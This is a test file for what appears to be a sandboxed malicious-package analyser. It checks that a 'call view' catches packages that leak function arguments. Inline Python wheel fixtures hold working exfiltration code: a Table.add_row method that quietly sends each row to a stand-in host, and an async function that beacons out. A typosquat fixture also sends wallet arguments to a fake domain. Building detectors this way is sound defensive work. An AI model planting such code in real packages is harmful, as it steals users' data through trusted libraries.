import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SandboxReport } from '@airlock/core';
import { analyzeLocalPackage } from '@airlock/analysis';
import { connectDocker } from '@airlock/sandbox';
import { buildWheel } from '../fixtures/pypi/zip-writer.js';
import { reportSchemaErrors } from '../support/report-schema.js';
import { testTempDir } from '../support/temp-dir.js';

// The call view: after the import, the runner calls the package's exports with argument shapes whose
// strings carry the run's call-argument honeytoken. Fixture code runs only in the sandbox.
const artifactsRoot = testTempDir('airlock-calls-');
const docker = connectDocker();
const fixture = resolve(__dirname, '../fixtures/incidents/mal-typosquat-argument-stealer');

/** Only the call view after the developer run. */
const callsOnly = { docker, artifactsRoot, retry: false, ciProfile: false, timeView: false, platformViews: false } as const;

/** A built wheel through the pipeline with only the call view after the developer run. */
async function analyzeWheel(wheel: { fileName: string; bytes: Buffer }) {
  const file = join(testTempDir('airlock-calls-py-'), wheel.fileName);
  writeFileSync(file, wheel.bytes);
  return analyzeLocalPackage(file, callsOnly);
}

describe('the call view', () => {
  it('catches a typosquat that sends the arguments its functions are given, which install and import never show', async () => {
    const r = await analyzeLocalPackage(fixture, { docker, artifactsRoot, retry: false, ciProfile: false, timeView: false });
    expect(reportSchemaErrors(r)).toEqual([]);
    expect(r.views.map((v) => [v.view, v.verdict === 'malicious', v.chosen])).toEqual([
      ['developer', false, false],
      ['calls', true, true],
    ]);
    expect(r.views[1]?.reason).toMatch(/exports \d+ function/);
    const leaks = r.honeytokens.exfiltrated.filter((l) => l.kind === 'call-argument');
    expect(leaks.map((l) => l.destination)).toContainEqual(expect.stringMatching(/^keys\.wallet-args-fixture\.example:/));
    expect(r.verdict?.reasons.map((h) => h.rule)).toContain('honeytoken-exfiltration');
    const calls = (r.importResult as { calls?: { attempted: number; list: { path: string }[] } }).calls;
    expect(calls?.list.map((c) => c.path)).toEqual(expect.arrayContaining(['Wallet', 'toHex']));
  });

  it("is a stage of the developer run: one sandbox and one install, and the developer's evidence ends where the calls begin", async () => {
    const r = await analyzeLocalPackage(fixture, callsOnly);
    expect(r.views.map((v) => v.view)).toEqual(['developer', 'calls']);
    expect(r.views[1]?.reason).toMatch(/a stage of the developer run/);
    const developer = JSON.parse(readFileSync(join(artifactsRoot, r.views[0]!.reportId, 'report.json'), 'utf8')) as SandboxReport;
    expect(reportSchemaErrors(developer)).toEqual([]);
    // The machine identity is made per sandbox pair: the same one served both views.
    expect(r.sandbox.hostname).toBe(developer.sandbox.hostname);
    // The install ran once: the calls report's install record is the developer run's own file.
    const installRecord = (report: SandboxReport) =>
      Object.values(report.artifacts).find((path) => /install\.(gvisor\.jsonl|strace)$/.test(path));
    expect(installRecord(r)).toBeDefined();
    expect(installRecord(r)).toBe(installRecord(developer));
    // What the calls sent is the calls report's, not the developer's.
    const askedFor = (report: SandboxReport) => report.network.dns.map((q) => q.qname.replace(/\.$/, ''));
    expect(askedFor(r)).toContain('keys.wallet-args-fixture.example');
    expect(askedFor(developer)).not.toContain('keys.wallet-args-fixture.example');
    expect(developer.honeytokens.exfiltrated).toEqual([]);
    expect(developer.verdict?.verdict).not.toBe('malicious');
    expect(r.verdict?.verdict).toBe('malicious');
  });

  it('without the call view the same package looks benign', async () => {
    const r = await analyzeLocalPackage(fixture, { ...callsOnly, callView: false });
    expect(r.views.map((v) => v.view)).toEqual(['developer']);
    expect(r.honeytokens.exfiltrated).toEqual([]);
    expect(r.verdict?.verdict).not.toBe('malicious');
  });

  it("calls a Python class's methods with every argument shape: a table made with no arguments whose add_row(row) sends its row", async () => {
    // Constructed with the shape's arguments only, Table() never got add_row(row): with none, add_row() lacks its
    // row; with a string, Table(token) itself fails. The first instance now has each method called with every shape,
    // public ones first chosen (its private helpers and dunders once took every place before add_row).
    const wheel = buildWheel('airlock-table-demo', '1.0.0', {
      'airlock_table_demo/__init__.py': [
        'import urllib.parse, urllib.request',
        'class Table:',
        '    def __init__(self):',
        '        self.rows = []',
        '    def add_row(self, row):',
        '        try:',
        "            urllib.request.urlopen('http://table-rows.airlock-test.example/?r=' + urllib.parse.quote(str(row)), timeout=3)",
        '        except Exception:',
        '            pass',
        '        self.rows.append(row)',
        // Private helpers, as a real table class has: with the dunders they sort before add_row and fill 40 places.
        ...Array.from({ length: 30 }, (_, i) => `    def _format_${String(i).padStart(2, '0')}(self):\n        return ${i}`),
        '',
      ].join('\n'),
    });
    const r = await analyzeWheel(wheel);
    expect(r.views.map((v) => [v.view, v.verdict, v.chosen])).toEqual([
      ['developer', 'benign', false],
      ['calls', 'malicious', true],
    ]);
    const leaks = r.honeytokens.exfiltrated.filter((l) => l.kind === 'call-argument');
    expect(leaks.map((l) => l.destination)).toContainEqual(expect.stringMatching(/^table-rows\.airlock-test\.example:/));
    const called = (r.importResult as { calls?: { list: { path: string; shape: string; outcome: string }[] } }).calls;
    expect(called?.list).toContainEqual(expect.objectContaining({ path: 'airlock_table_demo.Table', shape: 'none', outcome: 'returned' }));
  });

  it('awaits what a Python async function returns: its body (the payload) runs only when awaited', async () => {
    const wheel = buildWheel('airlock-async-demo', '1.0.0', {
      'airlock_async_demo/__init__.py': [
        'import asyncio, urllib.request',
        'async def run():',
        '    await asyncio.sleep(0)',
        '    try:',
        "        urllib.request.urlopen('http://async-payload.airlock-test.example/beacon', timeout=3)",
        '    except Exception:',
        '        pass',
        '',
      ].join('\n'),
    });
    const r = await analyzeWheel(wheel);
    const calls = r.views.find((v) => v.view === 'calls');
    // The beacon to a host no baseline knows, seen only by the call view (a probing view's report is chosen
    // only when it is malicious; the view keeps what it saw).
    expect(calls).toMatchObject({ verdict: 'suspicious', rules: ['network-egress'] });
    expect(r.views.find((v) => v.view === 'developer')).toMatchObject({ verdict: 'benign', rules: [] });
  });
});
